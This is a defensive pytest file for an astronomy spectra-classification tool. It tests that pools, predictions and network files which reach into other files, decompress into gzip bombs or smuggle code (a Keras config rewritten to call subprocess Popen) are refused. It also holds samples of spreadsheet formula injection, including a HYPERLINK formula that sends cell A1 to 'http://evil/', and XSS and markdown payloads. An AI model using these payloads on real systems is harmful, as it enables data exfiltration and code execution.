"""Files and names of strangers: what they could make us read, run, calculate or show."""

import dataclasses
import gzip
import io
import json
import os
import tracemalloc
import zipfile
from pathlib import Path
from types import SimpleNamespace

import h5py
import numpy as np
import pandas as pd
import pytest
from astropy.io import fits
from astropy.io.votable import parse as parse_votable
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from active_cnn.campaign.classification import classify
from active_cnn.campaign.creation import create_campaign
from active_cnn.campaign.files import hash_file, iteration_folder
from active_cnn.campaign.store import Store
from active_cnn.delivery.tables import format_candidates
from active_cnn.errors import CampaignError, SpectrumError, StoreError
from active_cnn.grid import Grid
from active_cnn.learning.predictions import PredictionsFile, PredictionsWriter
from active_cnn.recipes import TrainingSettings
from active_cnn.spectra import containment
from active_cnn.spectra.pool_file import open_pool
from active_cnn.spectra.pool_index import PoolIndex, index_pool, is_indexed
from active_cnn.spectra.readers import fits_file, read
from active_cnn.spreadsheet import disarm, rearm
from active_cnn.ui.text import plain

GRID = Grid()
N = 4
SECRET = "TOP-SECRET-of-another-file " * 300
WORD_JOINER = "\N{WORD JOINER}"


def assert_one_line_without_the_secret(error):
    assert "\n" not in str(error)
    assert "SECRET" not in str(error)


# HDF5 files that lead to other files, or to endless data


@pytest.fixture
def elsewhere(tmp_path):
    """Give the paths of a text and an HDF5 file that no pool may take anything of."""
    text, hdf5 = tmp_path / "secret.txt", tmp_path / "secret.h5"
    text.write_text(SECRET)
    with h5py.File(hdf5, "w") as file:
        fill_columns(file.create_group("pool"), {})
        file["label"] = np.zeros(N, "u1")
    return SimpleNamespace(text=str(text), hdf5=str(hdf5))


def fill_columns(group, columns):
    rng = np.random.default_rng(1)
    plain_columns = {
        "filenames": np.array([f"star-{row}" for row in range(N)], dtype="S32"),
        "spectra": rng.normal(100, 5, (N, GRID.n)).astype("f4"),
        "ra": np.zeros(N),
    }
    for name, values in (plain_columns | columns).items():
        if values is not None:
            group[name] = values


def external_link_to_the_group(file, elsewhere):
    file["pool"] = h5py.ExternalLink(elsewhere.hdf5, "/pool")


def external_link_to_a_column(file, elsewhere):
    fill_columns(
        file.create_group("pool"), {"spectra": h5py.ExternalLink(elsewhere.hdf5, "/pool/spectra")}
    )


def soft_link_through_an_external_one(file, elsewhere):
    file["refused"] = h5py.ExternalLink(elsewhere.hdf5, "/pool")
    fill_columns(file.create_group("pool"), {"spectra": h5py.SoftLink("/refused/spectra")})


def external_storage(file, elsewhere):
    group = file.create_group("pool")
    fill_columns(group, {"filenames": None})
    group.create_dataset("filenames", (N,), "S32", external=[(elsewhere.text, 0, N * 32)])


def external_storage_of_numbers(file, _elsewhere):
    group = file.create_group("pool")
    fill_columns(group, {"ra": None})
    group.create_dataset("ra", (N,), "f8", external=[("/dev/zero", 0, N * 8)])


def virtual_dataset(file, elsewhere):
    group = file.create_group("pool")
    fill_columns(group, {"spectra": None})
    layout = h5py.VirtualLayout((N, GRID.n), "f4")
    layout[:] = h5py.VirtualSource(elsewhere.hdf5, "pool/spectra", (N, GRID.n), "f4")
    group.create_virtual_dataset("spectra", layout)


LEADING_OUT = {
    external_link_to_the_group: "'pool' is a link to another file",
    external_link_to_a_column: "'pool/spectra' is a link to another file",
    soft_link_through_an_external_one: "'refused' is a link to another file",
    external_storage: "'pool/filenames' keeps its data in another file",
    external_storage_of_numbers: "'pool/ra' keeps its data in another file",
    virtual_dataset: "'pool/spectra' is a virtual dataset",
}
every_way_out = pytest.mark.parametrize(
    ("write", "message"), LEADING_OUT.items(), ids=[one.__name__ for one in LEADING_OUT]
)


@every_way_out
def test_a_pool_that_leads_to_other_files_is_refused(tmp_path, elsewhere, write, message):
    path = tmp_path / "pool.h5"
    with h5py.File(path, "w") as file:
        write(file, elsewhere)
    with pytest.raises(SpectrumError, match=message) as caught:
        index_pool(path, tmp_path / "index.h5", GRID)
    assert_one_line_without_the_secret(caught.value)
    assert not (tmp_path / "index.h5").exists()


def endless_rows(group):
    group.create_dataset("filenames", (10**12,), "S32", chunks=(1000,))
    group.create_dataset("spectra", (10**12, GRID.n), "f4", chunks=(1000, GRID.n))


def one_huge_chunk(group):
    shape = (containment.MOST_A_CHUNK // GRID.n, GRID.n)
    group.create_dataset("spectra", shape, "f4", chunks=shape, compression="gzip")


def long_texts(group):
    group.create_dataset("filenames", (N,), "S100000")


def many_objects(group):
    for number in range(containment.MOST_OBJECTS + 1):
        group.create_group(str(number))


@pytest.mark.parametrize(
    ("write", "message"),
    [
        (endless_rows, "it claims .* bytes of data and is"),
        (one_huge_chunk, "'pool/spectra' has chunks of more than"),
        (long_texts, "'pool/filenames' has values of 100000 bytes"),
        (many_objects, "more than 1000 objects"),
    ],
)
def test_a_small_file_that_claims_endless_data_is_refused(tmp_path, write, message):
    path = tmp_path / "pool.h5"
    with h5py.File(path, "w") as file:
        write(file.create_group("pool"))
    assert path.stat().st_size < 2**21
    with pytest.raises(SpectrumError, match=message) as caught, open_pool(path, GRID):
        pass
    assert "\n" not in str(caught.value)


def test_links_within_the_file_and_compressed_columns_are_read(tmp_path):
    path = tmp_path / "pool.h5"
    with h5py.File(path, "w") as file:
        group = file.create_group("pool")
        flat = np.ones((20_000, GRID.n))
        group.create_dataset("spectra", data=flat, compression="gzip", compression_opts=9)
        file["refused/names"] = np.array([f"star-{n}" for n in range(len(flat))], dtype="S16")
        group["filenames"] = h5py.SoftLink("/refused/names")
        group.create_dataset("ra", (len(flat),), "f8", fillvalue=np.nan)
    with open_pool(path, GRID) as group:
        assert group["filenames"].asstr()[-1] == "star-19999"
        assert group["spectra"].shape == flat.shape


def test_names_of_parts_do_not_stretch_the_error(tmp_path):
    path = tmp_path / "pool.h5"
    with h5py.File(path, "w") as file:
        for number in range(50):
            file.create_group(f"{number}\n{'x' * 1000}")
    with (
        pytest.raises(SpectrumError, match="a pool has one group") as caught,
        open_pool(path, GRID),
    ):
        pass
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 1500


@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
def test_what_is_no_file_is_refused_and_not_waited_for(tmp_path, kind):
    path = {"pipe": tmp_path / "pipe.h5", "device": tmp_path / "zero.h5", "folder": tmp_path}[kind]
    if kind == "pipe":
        os.mkfifo(path)
    if kind == "device":
        path.symlink_to("/dev/zero")
    with pytest.raises(SpectrumError, match="not a file"), open_pool(path, GRID):
        pass
    with pytest.raises(SpectrumError, match="not a file"):
        read(path)


@pytest.mark.parametrize("name", ["label", "entropy", "probabilities"])
@pytest.mark.parametrize("way", ["external link", "external storage", "virtual", "group", "gone"])
def test_predictions_that_lead_to_other_files_are_refused(tmp_path, elsewhere, way, name):
    path = tmp_path / "predictions.h5"
    writer = PredictionsWriter(path, N, ("a", "b"), "fingerprint")
    writer.write(slice(0, N), np.ones(N, bool), np.full((N, 2), 0.5, "f4"))
    writer.finish()
    with h5py.File(path, "r+") as file:
        shape, dtype = file[name].shape, file[name].dtype
        del file[name]
        if way == "external link":
            file[name] = h5py.ExternalLink(elsewhere.hdf5, "/label")
        if way == "external storage":
            file.create_dataset(name, shape, dtype, external=[(elsewhere.text, 0, 32)])
        if way == "virtual":
            layout = h5py.VirtualLayout(shape, dtype)
            layout[:] = h5py.VirtualSource(elsewhere.hdf5, "label", shape)
            file.create_virtual_dataset(name, layout)
        if way == "group":
            file.create_group(name)
    predictions = PredictionsFile(path, "fingerprint")
    calls = {
        "label": predictions.labels,
        "entropy": predictions.entropy,
        "probabilities": lambda: predictions.probabilities(np.arange(2)),
    }
    with pytest.raises(StoreError, match="Cannot read the predictions") as caught:
        calls[name]()
    assert_one_line_without_the_secret(caught.value)


def test_an_index_that_leads_to_other_files_is_made_anew_and_never_read(tmp_path, elsewhere):
    pool, index = tmp_path / "pool.h5", tmp_path / "index.h5"
    with h5py.File(pool, "w") as file:
        fill_columns(file.create_group("pool"), {})
    index_pool(pool, index, GRID)
    assert is_indexed(pool, index)
    with h5py.File(index, "r+") as file:
        del file["hash"]
        file.create_dataset("hash", (N,), "u8", external=[(elsewhere.text, 0, N * 8)])
    assert not is_indexed(pool, index)
    with pytest.raises(SpectrumError, match="'hash' keeps its data in another file"):
        PoolIndex(index)


# FITS files that unpack to more than the memory holds


def write_gzipped(path, n_bytes):
    header = fits.PrimaryHDU().header.tostring().encode()
    with gzip.open(path, "wb") as file:
        file.write(header)
        for _ in range(n_bytes // 2**20):
            file.write(bytes(2**20))
    return path


def test_a_gzip_bomb_is_refused_before_it_fills_the_memory(tmp_path, monkeypatch):
    monkeypatch.setattr(fits_file, "MOST_CONTENT", 4 * 2**20)
    path = write_gzipped(tmp_path / "bomb.fits.gz", 64 * 2**20)
    assert path.stat().st_size < 2**17
    tracemalloc.start()
    with pytest.raises(SpectrumError, match="unpacks to more than the 4194304 bytes") as caught:
        read(path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 16 * 2**20
    assert "\n" not in str(caught.value)


def test_a_file_may_unpack_to_just_the_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(fits_file, "MOST_CONTENT", 2880 + 2**20)
    with fits_file.opened(write_gzipped(tmp_path / "large.fits.gz", 2**20)) as hdus:
        assert hdus[0].header["SIMPLE"]


@pytest.mark.parametrize("kind", ["image", "compressed image", "table"])
def test_an_hdu_that_takes_more_than_the_memory_is_refused(tmp_path, monkeypatch, kind):
    values = np.zeros(40_000, np.uint8)
    hdu = {
        "image": lambda: fits.ImageHDU(values),
        "compressed image": lambda: fits.CompImageHDU(values),
        "table": lambda: fits.BinTableHDU.from_columns([fits.Column("F", "D", array=values)]),
    }[kind]()
    path = tmp_path / "spectrum.fits"
    fits.HDUList([fits.PrimaryHDU(), hdu]).writeto(path)
    monkeypatch.setattr(fits_file, "MOST_CONTENT", 100_000)
    monkeypatch.setattr(fits_file, "MOST_VALUES", 30_000)
    said = "holds 320000 bytes" if kind == "table" else "holds 40000 values"
    with fits_file.opened(path) as hdus, pytest.raises(SpectrumError, match=said):
        fits_file.column(hdus[1], "f") if kind == "table" else fits_file.array(hdus[-1])


# Texts that a spreadsheet would calculate


@given(st.text())
@example("'=1")
@example("''")
@example("")
def test_disarming_can_be_undone(text):
    assert rearm(disarm(text)) == text


@given(st.sampled_from("=+-@\t\r\n"), st.text())
def test_a_text_never_begins_a_formula(sign, text):
    assert disarm(sign + text) == "'" + sign + text


@given(st.text(st.characters(categories=("L", "N")), min_size=1))
def test_names_stay_as_they_are(text):
    assert disarm(text) == text


FORMULA = '=HYPERLINK("http://evil/"&A1,"look")'
HTML = "<script>alert(1)</script> <img src=x onerror=alert(1)> ]]> &lt;"


@pytest.fixture
def candidates():
    return pd.DataFrame(
        {
            "identifier": ["@SUM(A1)", "star"],
            "dec": [-1.5, np.nan],
            "label": ["-emission", "emission"],
            "p_emission": [0.25, 1.0],
            "iteration": [-1, 0],
            "note": [FORMULA, HTML],
        }
    )


def test_the_candidates_csv_has_no_formulas_and_its_numbers_stay_numbers(candidates):
    again = pd.read_csv(io.BytesIO(format_candidates(candidates, ".csv")), keep_default_na=True)
    assert list(again["identifier"]) == ["'@SUM(A1)", "star"]
    assert list(again["label"]) == ["'-emission", "emission"]
    assert again["dec"].dtype == again["p_emission"].dtype == np.float64
    assert again["dec"][0] == -1.5
    assert list(again["iteration"]) == [-1, 0]
    assert list(again["note"].map(rearm)) == [FORMULA, HTML]


@pytest.mark.parametrize("ending", [".ecsv", ".fits", ".vot"])
def test_formats_that_no_spreadsheet_opens_keep_the_texts(candidates, ending):
    content = format_candidates(candidates, ending)
    assert b"@SUM(A1)" in content
    assert b"'@SUM(A1)" not in content


def test_html_in_a_note_is_text_in_a_votable(candidates):
    content = format_candidates(candidates, ".vot")
    assert b"<script" not in content
    assert b"<img" not in content
    table = parse_votable(io.BytesIO(content)).get_first_table().to_table()
    assert [str(note) for note in table["note"]] == [FORMULA, HTML]


# Networks that hold code, or that somebody has exchanged


@pytest.fixture(scope="module")
def trained(tmp_path_factory, survey, probabilities, fill_iteration):
    from active_cnn.learning.network import build_network, save_network

    with Store(tmp_path_factory.mktemp("trained")) as store:
        campaign = create_campaign(store, "halpha", survey.training, survey.pool)
        iteration = fill_iteration(store, campaign, probabilities)
        job = store.add_job(campaign.name, iteration.number, TrainingSettings())
        store.start_job(job.number)
        network = iteration_folder(store, iteration) / f"network-{job.number}.keras"
        save_network(build_network("paper", campaign.grid.n, 3), network)
        result = dataclasses.replace(
            iteration.result, network_file=network.name, network_sha256=hash_file(network)
        )
        assert store.finish_job(job.number, result)
        yield store, campaign, network


def test_the_table_of_classes_has_no_formulas(trained, tmp_path, monkeypatch):
    store, campaign, _ = trained
    (tmp_path / "=1+1.fits").write_bytes(b"=2+2")
    monkeypatch.chdir(tmp_path)
    table = tmp_path / "table.csv"
    counts = classify(store, campaign, [Path("=1+1.fits")], table)
    row = pd.read_csv(table).iloc[0]
    assert counts == (0, 1)
    assert (row["path"], row["identifier"]) == ("'=1+1.fits", "'=1+1.fits")


def test_a_network_that_somebody_exchanged_is_not_loaded(trained, survey, tmp_path):
    store, campaign, network = trained
    kept = network.read_bytes()
    network.write_bytes(kept[:-1] + b"!")
    try:
        with pytest.raises(CampaignError, match="not the one that the training wrote") as caught:
            classify(store, campaign, [survey.pool], tmp_path / "table.csv")
    finally:
        network.write_bytes(kept)
    assert "\n" not in str(caught.value)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "kind", ["lambda", "lambda in a legacy file", "legacy file in disguise", "custom", "module"]
)
def test_code_in_a_network_is_refused_and_not_run(tmp_path, kind):
    keras = pytest.importorskip("keras")
    from active_cnn.learning.network import load_network

    trace = tmp_path / "the code was run"

    class Spy(keras.layers.Layer):
        @classmethod
        def from_config(cls, config):
            trace.touch()
            return cls(**config)

    layers = {
        "custom": lambda: keras.saving.register_keras_serializable("evil")(Spy)(),
        "module": lambda: keras.layers.Dense(3, activation="relu"),
    }
    # The default binds the place within the bytecode that the file holds.
    spy = keras.layers.Lambda(lambda x, path=str(trace): [open(path, "w").close(), x][1])  # noqa: PTH123, SIM115
    layer = layers[kind]() if kind in layers else spy
    network = keras.Sequential([keras.Input((3,)), layer])
    path = tmp_path / ("network.h5" if "legacy" in kind else "network.keras")
    network.save(path)
    trace.unlink(missing_ok=True)
    if kind == "legacy file in disguise":
        path = path.rename(tmp_path / "network.keras")
    if kind == "custom":
        # As in every process but the one that wrote the file.
        del keras.saving.get_custom_objects()["evil>Spy"]
    if kind == "module":
        popen = {"module": "subprocess", "class_name": "Popen", "registered_name": None}
        replace_layer(path, popen | {"config": {"args": ["touch", str(trace)]}})
    with pytest.raises(CampaignError, match="Cannot load the network") as caught:
        load_network(path)
    assert "\n" not in str(caught.value)
    assert not trace.exists()


def replace_layer(path, layer):
    with zipfile.ZipFile(path) as file:
        members = {name: file.read(name) for name in file.namelist()}
    config = json.loads(members["config.json"])
    config["config"]["layers"][-1] = layer
    members["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as file:
        for name, content in members.items():
            file.writestr(name, content)


# Names, notes and headers that a page would run or obey


def shown(text):
    """Give what CommonMark shows of an escaped text, and which elements it makes of it."""
    (paragraph, inline, _) = MarkdownIt("commonmark").parse(plain(text))
    assert paragraph.type == "paragraph_open"
    kinds = {child.type for child in inline.children}
    return "".join(child.content for child in inline.children).replace(WORD_JOINER, ""), kinds


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[look](javascript:alert(1))",
    "![look](http://evil.com/y.png)",
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt; &#60;b&#62; &amp;",
    "$latex$ and $$more$$",
    "**bold** __b__ *i* _i_ ~~s~~ `code` ```block```",
    ":red[look] :red-badge[look] ::leaf[x] :::box",
    "a | b",
    "# heading",
    "> quotation",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "12) item",
    "---",
    "===",
    "=",
    "[^1] [^1]: x [a]: http://evil.com",
    "\\# \\\\ C:\\survey\\new",
    "a <!-- b --> c",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markup_is_shown_letter_by_letter(text):
    said, kinds = shown(text)
    assert said == text
    assert kinds <= {"text", "text_special"}


@given(st.text(st.sampled_from("ab1 .-+=*_#<>[]()!&;:/\\`~|$^@\n\t'\"é\x85"), min_size=1))
def test_any_text_is_one_paragraph_without_elements(text):
    if text.split():
        said, kinds = shown(text)
        assert said == " ".join(text.split())
        assert kinds <= {"text", "text_special"}
    else:
        assert plain(text) == ""


# Streamlit 1.67 and its Markdown extensions look for these when the escapes are already gone.
REPLACED = [
    ":material/bomb:",
    ":streamlit:",
    ":bomb:",
    ":+1:",
    ":100:",
    "https://evil.com/x",
    "(HTTP://evil.com)",
    "www.evil.com",
    "somebody@evil.com",
    "a -> b",
    "a <-> b",
    "a <- b",
    "a -- b",
    "a >= b",
    "a ~= b",
]


@pytest.mark.parametrize("text", REPLACED)
def test_what_streamlit_replaces_after_the_escapes_is_broken_up_unseen(text):
    said, _ = shown(text)
    assert said == text
    assert plain(text).count(WORD_JOINER) == 1


@pytest.mark.parametrize("text", ["J052637.12+052637.1", "05:26:37 -05:26:37", "a:b", "x@home"])
def test_names_and_places_can_be_copied_from_a_page(text):
    assert shown(text)[0] == text
    assert WORD_JOINER not in plain(text)


def test_a_long_text_of_many_lines_is_one_line():
    assert plain("a\n\n# b\n    code\r\n- c\n===") == "a \\# b code - c ==="


def test_bytes_of_a_name_that_are_not_utf_8_can_be_shown():
    assert plain("\udce9toile.fits").encode() == rb"\\udce9toile.fits"
